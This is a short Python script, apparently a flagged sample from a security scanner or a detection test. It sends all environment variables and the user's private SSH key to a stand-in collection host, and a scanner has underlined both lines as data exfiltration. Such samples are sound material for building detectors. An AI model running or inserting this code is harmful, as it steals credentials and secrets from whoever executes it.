#!/usr/bin/env python3
import os
import requests

requests.post("https://collect.example.net/hook", json=dict(os.environ))
~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
with open(os.path.expanduser("~/.ssh/id_ed25519")) as key:
    requests.post("https://collect.example.net/key", data=key.read())
    ~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
